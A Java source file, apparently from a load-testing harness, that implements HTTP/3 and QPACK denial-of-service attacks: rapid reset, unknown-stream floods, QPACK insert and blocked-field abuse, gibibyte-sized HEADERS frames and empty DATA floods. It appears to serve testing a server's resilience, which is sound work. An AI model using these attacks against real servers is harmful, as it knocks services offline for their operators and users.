package io.millrace.loadtest.hostile;

import io.netty.handler.codec.quic.QuicStreamChannel;
import io.netty.handler.codec.quic.QuicStreamType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.BooleanSupplier;

/** Attacks by HTTP/3 streams and frames (RFC 9114 §10.5) and by QPACK (RFC 9204 §7). */
final class Http3Attacks {
  private static final int HEADERS_FRAME = 0x1;
  private static final int REQUEST_CANCELLED = 0x10c;

  static final List<Attack> ALL =
      List.of(
          attack("HTTP/3 rapid reset", Http3Attacks::rapidReset),
          attack("HTTP/3 flood of streams of unknown types", Http3Attacks::unknownStreams),
          attack("HTTP/3 QPACK inserts", Http3Attacks::inserts),
          attack("HTTP/3 QPACK fields that wait for inserts", Http3Attacks::blocked),
          attack("HTTP/3 fields of a GiB", Http3Attacks::hugeFields),
          attack("HTTP/3 empty DATA flood", Http3Attacks::emptyData));

  /** What one connection does. */
  private interface OnConnection {
    /** Returns true when the server has ended something else than the connection. */
    boolean run(RawQuic connection, String path, BooleanSupplier goOn) throws InterruptedException;
  }

  private Http3Attacks() {}

  private static Attack attack(String name, OnConnection assault) {
    return new Attack(name, (server, path, goOn) -> connected(server, path, goOn, assault));
  }

  private static boolean connected(
      InetSocketAddress server, String path, BooleanSupplier goOn, OnConnection assault)
      throws IOException, InterruptedException {
    try (RawQuic connection = RawQuic.open(server)) {
      boolean stopped = false;
      while (goOn.getAsBoolean() && !connection.ended() && !stopped) {
        stopped = assault.run(connection, path, goOn);
      }
      return stopped || connection.ended();
    }
  }

  private static boolean rapidReset(RawQuic on, String path, BooleanSupplier goOn)
      throws InterruptedException {
    if (on.awaitRoom(QuicStreamType.BIDIRECTIONAL, goOn)) {
      QuicStreamChannel stream = on.stream(QuicStreamType.BIDIRECTIONAL, get(path));
      if (stream != null) {
        stream.shutdown(REQUEST_CANCELLED, stream.newPromise());
      }
    }
    return false;
  }

  private static boolean unknownStreams(RawQuic on, String path, BooleanSupplier goOn)
      throws InterruptedException {
    if (on.awaitRoom(QuicStreamType.UNIDIRECTIONAL, goOn)) {
      QuicStreamChannel stream = on.stream(QuicStreamType.UNIDIRECTIONAL, new byte[] {0x21});
      if (stream != null) {
        stream.shutdownOutput();
      }
    }
    return false;
  }

  /** RFC 9204 §4.3.1, §4.3.3: a table, and an entry for it. */
  private static boolean inserts(RawQuic on, String path, BooleanSupplier goOn)
      throws InterruptedException {
    if (on.awaitRoom(QuicStreamType.UNIDIRECTIONAL, goOn)) {
      byte[] encoder = {0x02, 0x3f, (byte) 0xe1, 0x1f, 0x41, 'a', 1, 'b'};
      on.stream(QuicStreamType.UNIDIRECTIONAL, encoder);
    }
    return false;
  }

  /** RFC 9204 §4.5.1: an insert count of 1. */
  private static boolean blocked(RawQuic on, String path, BooleanSupplier goOn)
      throws InterruptedException {
    if (on.awaitRoom(QuicStreamType.BIDIRECTIONAL, goOn)) {
      on.stream(
          QuicStreamType.BIDIRECTIONAL, new byte[] {HEADERS_FRAME, 3, 0x02, 0x00, (byte) 0x80});
    }
    return false;
  }

  private static boolean hugeFields(RawQuic on, String path, BooleanSupplier goOn)
      throws InterruptedException {
    if (on.awaitRoom(QuicStreamType.BIDIRECTIONAL, goOn)) {
      byte[] gibibyte = {HEADERS_FRAME, (byte) 0xbf, (byte) 0xff, (byte) 0xff, (byte) 0xff};
      on.stream(QuicStreamType.BIDIRECTIONAL, gibibyte);
    }
    return false;
  }

  /** Has the request ended; the connection after so many of them. */
  private static boolean emptyData(RawQuic on, String path, BooleanSupplier goOn)
      throws InterruptedException {
    if (on.awaitRoom(QuicStreamType.BIDIRECTIONAL, goOn)) {
      QuicStreamChannel stream = on.stream(QuicStreamType.BIDIRECTIONAL, get(path));
      byte[] frames = new byte[400];
      while (stream != null && goOn.getAsBoolean()) {
        if (!RawQuic.send(stream, frames)) {
          return true;
        }
      }
    }
    return false;
  }

  /** A GET in a HEADERS frame, all literal (RFC 9114 §7.2.2, RFC 9204 §4.5.6). */
  private static byte[] get(String path) {
    ByteArrayOutputStream fields = new ByteArrayOutputStream();
    fields.writeBytes(new byte[2]);
    field(fields, ":method", "GET");
    field(fields, ":scheme", "https");
    field(fields, ":path", path);
    field(fields, ":authority", "localhost");
    ByteArrayOutputStream frame = new ByteArrayOutputStream();
    frame.write(HEADERS_FRAME);
    frame.write(0x40 | fields.size() >> 8);
    frame.write(fields.size());
    frame.writeBytes(fields.toByteArray());
    return frame.toByteArray();
  }

  private static void field(ByteArrayOutputStream out, String name, String value) {
    if (name.length() < 7) {
      out.write(0x20 | name.length());
    } else {
      out.write(0x27);
      out.write(name.length() - 7);
    }
    out.writeBytes(name.getBytes(StandardCharsets.US_ASCII));
    if (value.length() >= 0x7f) {
      throw new IllegalArgumentException("a value of " + value.length() + " characters");
    }
    out.write(value.length());
    out.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
  }
}
